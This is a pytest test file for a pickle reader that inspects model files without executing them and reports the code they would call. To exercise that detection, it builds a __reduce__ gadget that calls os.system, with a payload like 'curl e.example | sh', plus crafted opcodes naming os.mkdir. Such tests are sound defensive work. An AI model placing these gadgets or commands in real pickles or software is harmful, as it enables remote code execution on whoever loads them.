"""Pickles are followed without running them; what they name is told, whatever they try."""

from __future__ import annotations

import argparse
import collections
import datetime
import os
import pickle
import pickletools
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ml_core.reading.errors import InputError
from ml_core.reading.pickles import machine
from ml_core.reading.pickles.machine import Budget, read_pickle
from ml_core.reading.pickles.names import group_of
from ml_core.reading.pickles.records import Object, Table
from ml_core.reading.torch_file import check_pickles

HARMLESS = {
    "numbers": [1, 2.5, None, True, -(1 << 70), (1, 2, 3), {"a": {"b": []}}],
    "ordered": collections.OrderedDict(x=1),
    "default": collections.defaultdict(list, y=2),
    "options": argparse.Namespace(lr=1e-3, name="par"),
    "path": Path("/x/y"),
    "when": datetime.datetime(2026, 1, 2),
    "numpy": (np.float64(3.0), np.arange(5), np.dtype("float16")),
    "bytes": b"\x00\xff",
    "sets": (frozenset({1}), {2}),
}


@pytest.mark.parametrize("protocol", range(6))
def test_what_training_programs_save_names_nothing_unknown(protocol: int) -> None:
    found = read_pickle(pickle.dumps(HARMLESS, protocol))
    assert (found.problem, found.unknown, found.misuse) == ("", [], [])
    assert isinstance(found.value, Table)
    assert [key for key, _ in found.value.items] == list(HARMLESS)
    numbers = dict(found.value.items)["numbers"]
    assert numbers[:5] == [1, 2.5, None, True, -(1 << 70)]


class Calls:
    """An object that an ordinary loader makes by a call of anything with anything."""

    def __init__(self, *arguments: Any) -> None:
        self.arguments = arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, self.arguments


@pytest.mark.parametrize("protocol", range(2, 6))
@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        (("touch /tmp/x; curl e.example | sh",), "'touch /tmp/x; curl e.example | sh'"),
        ((), ""),
        (("a\x1b[31m\u202egnp\n\u05d0",), "'a\\x1b[31m\\u202egnp\\n\\u05d0'"),
        ((1 << 80, -2, True, None, 0.5), "a number of 81 bits, -2, True, None, 0.5"),
        ((["sh", ("-c",)], {"cwd": "/"}), "['sh', ('-c',)], {'cwd': '/'}"),
        (([[[["deep"]]]],), "[[...]]"),
        ((list(range(20)),), "[0, 1, 2, 3, 4, 5, 6, 7, ...]"),
        ((os.getcwd, {}), "posix.getcwd, {}"),
    ],
)
def test_what_unknown_code_would_be_called_with_is_told(protocol, arguments, text):
    raw = pickle.dumps([Calls("first"), Calls(*arguments)], protocol)
    (calls,) = read_pickle(raw).calls.values()
    assert calls[0] == "posix.system('first')"  # a harmless one first hides no other
    assert calls[-1] == f"posix.system({text})"
    with pytest.raises(InputError) as caught:
        check_pickles([("its pickle", read_pickle(raw))], "x.pt")
    assert f"may run: {', '.join(calls)}" in caught.value.sentence


def test_a_call_of_what_a_call_gave_is_told() -> None:
    found = read_pickle(pickle.dumps(Calls(Calls("inner")), 4))
    assert found.calls == {
        "posix system": ["posix.system('inner')", "posix.system(posix.system('inner'))"]
    }


def test_the_sentence_of_many_calls_is_bounded() -> None:
    found = read_pickle(pickle.dumps([Calls("x" * 500) for _ in range(300)], 4))
    with pytest.raises(InputError, match="and 15 more") as caught:
        check_pickles([("its pickle", found)], "x.pt")
    assert len(caught.value.sentence) < 2000


def test_the_text_of_a_call_is_short_whatever_it_is_given() -> None:
    itself: list[Any] = []
    itself.append(itself)
    for value in ("x" * 10_000_000, b"\x00" * 10_000_000, itself, [["y" * 500] * 50] * 50):
        found = read_pickle(pickle.dumps(Calls(value), 4))
        ((told,),) = found.calls.values()
        assert told.startswith("posix.system(")
        assert told.isascii()
        assert told.isprintable()
        assert len(told) < 200


BROKEN = {
    "no end": b"\x80\x02}",
    "empty": b"",
    "an unknown opcode": b"\x80\x02\xfe.",
    "bytes after the end": b"\x80\x02}.x",
    "an empty stack": b"\x80\x02.",
    "two objects": b"\x80\x02}}.",
    "a mark that is missing": b"\x80\x02u.",
    "a mark as an object": b"\x80\x02(.",
    "a memo that is empty": b"\x80\x02h\x05.",
    "a key without a value": b"\x80\x02}(K\x01u.",
    "an extension code": b"\x80\x02\x82\x01.",
    "a copy": b"\x80\x02}2.",
    "a text reference": b"P1\n.",
    "a second protocol mark": b"\x80\x02\x80\x02}.",
    "an unknown protocol": b"\x80\x09}.",
    "a buffer": b"\x80\x05\x97.",
    "append to a number": b"\x80\x02K\x01K\x02a.",
    "a name that is a number": b"\x80\x04K\x01K\x02\x93.",
    "a frame inside a frame": b"\x80\x04\x95\x0c" + bytes(7) + b"\x95\x01" + bytes(7) + b"}..",
    "a frame that ends in an opcode": b"\x80\x04\x95\x02" + bytes(7) + b"\x8c\x03abc.",
    "a frame that ends late": b"\x80\x04\x95\x09" + bytes(7) + b"}.",
    "a very long number": b"I" + b"9" * 5000 + b"\n.",
}


@pytest.mark.parametrize("raw", BROKEN.values(), ids=BROKEN.keys())
def test_a_damaged_pickle_is_half_a_sentence(raw: bytes) -> None:
    found = read_pickle(raw)
    assert found.problem
    assert found.value is None


def test_a_pickle_may_end_before_its_bytes_where_more_follow() -> None:
    found = read_pickle(b"\x80\x02K\x05.rest", ends=False)
    assert (found.value, found.end, found.problem) == (5, 5, "")


def test_framed_pickles_are_followed() -> None:
    raw = pickle.dumps(["x" * 70_000, list(range(70_000))], protocol=4)
    assert sum(op.name == "FRAME" for op, _, _ in pickletools.genops(raw)) > 1
    assert read_pickle(raw).problem == ""


def test_limits_hold(monkeypatch: pytest.MonkeyPatch) -> None:
    few = Budget(steps=100)
    assert "more than" in read_pickle(b"\x80\x02" + b"}0" * 200 + b"}.", budget=few).problem
    assert few.steps < 0
    assert "stack" in read_pickle(b"\x80\x02" + b"N" * 300_002 + b".").problem
    assert "nested" in read_pickle(b"\x80\x02" + b"(" * 1001 + b".").problem
    assert "keeps more" in read_pickle(b"\x80\x02N" + b"\x94" * 300_001 + b".").problem
    monkeypatch.setattr(machine, "MAX_BYTES", 1000)
    assert "more than" in read_pickle(bytes(2000)).problem


NAMED = b"cos\nmkdir\n(U\x01xtR"


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(b"N0" * 100 + NAMED + b".", id="behind the limit"),
        pytest.param(b"N0" * 5000 + NAMED + b".", id="far behind the limit"),
        pytest.param(
            b"N0" * 5000 + b"\x8c\x02os\x94\x8c\x05mkdir\x94\x93.", id="from the stack, far behind"
        ),
        pytest.param(NAMED + b"0" + b"N0" * 5000 + b".", id="before the limit"),
        pytest.param(
            b"\x8c\x02os\x94\x8c\x05mkdir\x94" + b"N0" * 100 + b"h\x00h\x01\x93.", id="by the memo"
        ),
        pytest.param(b"(N0N2" + b"\x8c\x02os\x8c\x05mkdir\x93.", id="the opcode is refused"),
        pytest.param(b"Nr\xff\xff\xff\x7f" + NAMED + b".", id="the memo is refused"),
    ],
)
def test_a_refused_pickle_is_called_dangerous_for_what_it_names(raw: bytes) -> None:
    budget = Budget(steps=100, beyond=300)
    found = read_pickle(b"\x80\x04" + raw, budget=budget)
    assert found.problem
    assert found.unknown == ["os mkdir"]


@pytest.mark.parametrize(
    ("module", "name", "group"),
    [
        ("torch._utils", "_rebuild_tensor_v2", "tensors"),
        ("torch", "FloatStorage", "tensors"),
        ("collections", "OrderedDict", "data"),
        ("torch", "float16", "data"),
        ("torch.nn.modules.conv", "Conv2d", "code"),
        ("torch.nn.modules.conv", "Conv9d", "unknown"),
        ("open_clip.model", "CLIP", "code"),
        ("open_clip.tokenizer", "HFTokenizer", "unknown"),
        ("__torch__.multimodal.___torch_mangle_9", "Model", "unknown"),
        ("__torch__.a b", "C", "unknown"),
        ("__torch__x", "C", "unknown"),
        ("torch.nn.modules.module", "_forward", "unknown"),
        ("torch.nn.modulesx", "A", "unknown"),
        ("open_clip_evil", "A", "unknown"),
        ("open_clip.model", "CLIP.x", "unknown"),
        ("open_clip.model", "CLIPé", "unknown"),
        ("torch", "load", "unknown"),
        ("", "", "unknown"),
    ],
)
def test_groups_of_names(module: str, name: str, group: str) -> None:
    assert group_of(module, name) == group


@pytest.mark.parametrize(
    ("module", "name", "group"),
    [
        ("__torch__.multimodal.___torch_mangle_9", "Model", "code"),
        ("__torch__.a b", "C", "unknown"),
        ("__torch__x", "C", "unknown"),
        ("torch", "load", "unknown"),
    ],
)
def test_groups_of_names_of_a_torchscript_archive(module: str, name: str, group: str) -> None:
    assert group_of(module, name, script=True) == group
    raw = b"c" + module.encode() + b"\n" + name.encode() + b"\n)\x81."
    assert bool(read_pickle(raw, script=True).unknown) == (group == "unknown")
    assert read_pickle(raw).unknown


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_give_an_answer(raw: bytes) -> None:
    found = read_pickle(raw)
    assert found.problem or found.end == len(raw)


PLAIN = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False)
    | st.text()
    | st.binary(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner) | st.tuples(inner, inner),
    max_leaves=20,
)


def inert(value: Any) -> Any:
    """What the machine should make of a plain value."""
    if isinstance(value, dict):
        return {key: inert(item) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(inert(item) for item in value)
    return value


def back(value: Any) -> Any:
    if isinstance(value, Table):
        return {key: back(item) for key, item in value.items}
    if isinstance(value, list | tuple):
        return type(value)(back(item) for item in value)
    if isinstance(value, Object) and value.of.name == "bytes":  # bytes() of protocols 0 to 2
        return bytes(*value.arguments)
    return value


@settings(max_examples=200, deadline=None)
@given(PLAIN, st.integers(0, 5))
def test_plain_values_come_through(value: Any, protocol: int) -> None:
    found = read_pickle(pickle.dumps(value, protocol))
    assert found.problem == ""
    assert back(found.value) == inert(value)


def test_objects_keep_class_and_state() -> None:
    found = read_pickle(pickle.dumps(argparse.Namespace(a=1), 2))
    assert isinstance(found.value, Object)
    assert found.value.of.full == "argparse Namespace"
    assert found.value.state.items == [("a", 1)]
